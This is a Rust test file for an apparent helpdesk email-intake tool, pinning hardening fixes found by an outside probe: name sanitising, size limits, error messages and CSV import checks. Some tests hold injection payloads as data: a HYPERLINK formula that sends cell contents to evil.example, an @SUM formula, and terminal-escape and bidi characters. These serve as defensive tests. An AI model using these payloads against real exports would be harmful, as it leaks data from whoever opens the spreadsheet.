//! Issue 13: what an outside probe found in intake and exports, each pinned by a test named
//! for it, through the real binary.

use crate::support::Instance;
use serde_json::Value;

const PASS: &str = "Authentication-Results: mail.nhs.example; dkim=pass header.d=nhs.example; dmarc=pass header.from=nhs.example";

fn write(i: &Instance, name: &str, subject: &str, body: &str) -> std::path::PathBuf {
    let raw = format!(
        "{PASS}\r\nFrom: Rosehill Care <rosehill.care@nhs.example>\r\nTo: helpdesk@nhs.example\r\n\
         Subject: {subject}\r\nMessage-ID: <{name}.hardening@nhs.example>\r\n\
         Content-Type: text/plain; charset=utf-8\r\n\r\n{}",
        body.replace('\n', "\r\n")
    );
    let path = i.dir.path().join(format!("{name}.eml"));
    std::fs::write(&path, raw).unwrap();
    path
}

fn new_starter(i: &Instance, file: &str, name: &str) -> Value {
    let path = write(
        i,
        file,
        "New starter",
        &format!(
            "Please create an account.\n\nName: {name}\nJob title: Carer\nRequested by: jane.doe@nhs.example\n"
        ),
    );
    i.process(&[path.as_path()], false).remove(0)
}

#[test]
fn control_characters_never_reach_the_directory_the_export_or_the_reply() {
    let i = Instance::with_directory("");
    let v = new_starter(&i, "escape", "Eve\u{1b}[2J\u{7}\u{8} Ev\u{202E}il\u{200B}");
    assert_eq!(v["outcome"], "applied", "{v}");
    let export = i.export();
    assert!(export.contains("Eve[2J Evil"), "{export}");
    for bad in ['\u{1b}', '\u{7}', '\u{8}', '\u{202E}', '\u{200B}'] {
        assert!(!export.contains(bad), "{bad:?} in {export:?}");
        let body = v["reply"]["body"].as_str().unwrap();
        assert!(!body.contains(bad), "{bad:?} in the reply");
    }
}

#[test]
fn a_formula_name_is_refused_by_email_and_by_csv_import() {
    let i = Instance::with_directory("");
    let before = i.export();
    let v = new_starter(
        &i,
        "formula",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    );
    assert_eq!(v["outcome"], "rejected", "{v}");
    assert_eq!(v["reason"], "bad_name", "{v}");
    assert_eq!(i.export(), before, "nothing was created");

    let csv = i.dir.path().join("formula.csv");
    std::fs::write(
        &csv,
        "organisation,mailbox,account,name,role,status\n\
         Rosehill Care,,ok.person@nhs.example,Ok Person,,active\n\
         Rosehill Care,,evil@nhs.example,@SUM(1+1),,active\n",
    )
    .unwrap();
    let out = i
        .cmd()
        .args(["directory", "import", csv.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("line 3"), "{err}");
    assert!(err.contains("formula"), "{err}");
    assert_eq!(
        i.export(),
        before,
        "all or nothing: the good row was not applied either"
    );
}

#[test]
fn the_directory_export_defuses_formula_cells() {
    // A name stored before names were checked (written straight into the database).
    let i = Instance::with_directory("");
    let database = i.database();
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        let store = postroom::store::Store::open(&database).await.unwrap();
        sqlx::query("UPDATE accounts SET name = '=HYPERLINK(\"http://evil.example\")' WHERE address = 'tom.smith@nhs.example'")
            .execute(store.pool())
            .await
            .unwrap();
        store.close().await;
    });
    let export = i.export();
    let line = export
        .lines()
        .find(|l| l.contains("tom.smith@nhs.example"))
        .unwrap();
    assert!(line.contains("'=HYPERLINK"), "{line}");
}

#[test]
fn a_long_name_is_refused_instead_of_making_an_invalid_address() {
    let i = Instance::with_directory("");
    let before = i.export();
    let v = new_starter(&i, "long", &format!("{} Smith", "A".repeat(500)));
    assert_eq!(v["outcome"], "rejected", "{v}");
    assert_eq!(v["reason"], "bad_name", "{v}");
    // Short enough to keep, too long for an address (RFC 5321: 64 before the @).
    let v = new_starter(
        &i,
        "long-address",
        &format!("{} {}", "Bartholomew".repeat(3), "Montgomery".repeat(3)),
    );
    assert_eq!(v["outcome"], "rejected", "{v}");
    assert_eq!(v["reason"], "bad_name", "{v}");
    assert_eq!(i.export(), before);
}

#[test]
fn a_huge_subject_gives_a_bounded_reply_subject() {
    let i = Instance::with_directory("");
    let subject = format!("Password reset {}", "x".repeat(200_000));
    let path = write(
        &i,
        "huge-subject",
        &subject,
        "Account: tom.smith@nhs.example\nRequested by: jane.doe@nhs.example\n",
    );
    let v = i.process(&[path.as_path()], false).remove(0);
    let reply_subject = v["reply"]["subject"].as_str().unwrap();
    assert!(
        reply_subject.chars().count() < 200,
        "{}",
        reply_subject.len()
    );
    assert!(reply_subject.ends_with('…'), "{reply_subject}");
}

/// Issue 13, item 8: `process` stored a 100 MB message whole. Over `max_message_bytes` (25 MiB
/// by default) only its header is stored, and it is held for a person (`too_large`), as the
/// IMAP watcher does.
#[test]
fn process_applies_max_message_bytes_and_stores_only_the_header() {
    let i = Instance::with_directory("");
    let mut raw = format!(
        "{PASS}\r\nFrom: Rosehill Care <rosehill.care@nhs.example>\r\nTo: helpdesk@nhs.example\r\n\
         Subject: Password reset\r\nMessage-ID: <huge.hardening@nhs.example>\r\n\
         Content-Type: text/plain; charset=utf-8\r\n\r\nAccount: tom.smith@nhs.example\r\nRequested by: jane.doe@nhs.example\r\n"
    )
    .into_bytes();
    raw.resize(26 * 1024 * 1024, b'x');
    let path = i.dir.path().join("huge.eml");
    std::fs::write(&path, &raw).unwrap();
    drop(raw);
    let v = i.process(&[path.as_path()], false).remove(0);
    assert_eq!(v["outcome"], "needs_review", "{v}");
    assert_eq!(v["reason"], "too_large", "{v}");
    let database = i.database();
    let rt = tokio::runtime::Runtime::new().unwrap();
    let stored: i64 = rt.block_on(async {
        let store = postroom::store::Store::open(&database).await.unwrap();
        let n: i64 = sqlx::query_scalar("SELECT MAX(LENGTH(raw)) FROM messages")
            .fetch_one(store.pool())
            .await
            .unwrap();
        store.close().await;
        n
    });
    assert!(stored < 64 * 1024, "stored {stored} bytes");
}

/// A database that cannot be opened printed SQLite's `(code: 14) unable to open database
/// file` three times and never named the path: one line, naming it and the cause.
#[test]
fn a_database_that_cannot_be_opened_is_named_once_with_its_cause() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("postroom.toml");
    std::fs::write(
        &config,
        "[database]\nurl = \"sqlite:///nonexistent-dir-for-postroom/p.db\"\n\n[helpdesk]\naddress = \"helpdesk@nhs.example\"\nname = \"T\"\nreference_prefix = \"HD\"\n",
    )
    .unwrap();
    let out = assert_cmd::Command::cargo_bin("postroom")
        .unwrap()
        .arg("--config")
        .arg(&config)
        .env_remove("POSTROOM_DATABASE_URL")
        .arg("migrate")
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    let lines: Vec<&str> = err.lines().filter(|l| !l.trim().is_empty()).collect();
    assert_eq!(lines.len(), 1, "{err}");
    assert!(
        lines[0].contains("/nonexistent-dir-for-postroom/p.db"),
        "{err}"
    );
    assert!(lines[0].contains("unable to open database file"), "{err}");
    assert_eq!(err.matches("unable to open").count(), 1, "{err}");
}

/// `directory import` silently accepted a row demoting a mailbox's last owner, and a header
/// with a repeated column: both refused, naming the line, nothing applied.
#[test]
fn directory_import_refuses_demoting_the_last_owner_and_a_repeated_column() {
    let i = Instance::with_directory("");
    let before = i.export();
    let run = |name: &str, text: &str| {
        let csv = i.dir.path().join(name);
        std::fs::write(&csv, text).unwrap();
        let out = i
            .cmd()
            .args(["directory", "import", csv.to_str().unwrap()])
            .output()
            .unwrap();
        assert!(!out.status.success(), "{name} was accepted");
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    let err = run(
        "demote.csv",
        "organisation,mailbox,account,name,role,status\n\
         Rosehill Care,,new.person@nhs.example,New Person,,active\n\
         Rosehill Care,rosehill.care@nhs.example,jane.doe@nhs.example,Jane Doe,member,active\n",
    );
    assert!(err.contains("line 3"), "{err}");
    assert!(err.contains("no owner"), "{err}");
    let err = run(
        "repeated.csv",
        "organisation,mailbox,account,name,name,role\n\
         Rosehill Care,,x@nhs.example,X,Y,\n",
    );
    assert!(err.contains("line 1"), "{err}");
    assert!(err.contains("appears twice"), "{err}");
    assert_eq!(i.export(), before);
    // Demoting one owner while another is named in the same file is fine.
    let csv = i.dir.path().join("handover.csv");
    std::fs::write(
        &csv,
        "organisation,mailbox,account,name,role,status\n\
         Rosehill Care,rosehill.care@nhs.example,tom.smith@nhs.example,Tom Smith,owner,active\n\
         Rosehill Care,rosehill.care@nhs.example,jane.doe@nhs.example,Jane Doe,member,active\n",
    )
    .unwrap();
    i.ok(&["directory", "import", csv.to_str().unwrap()]);
}
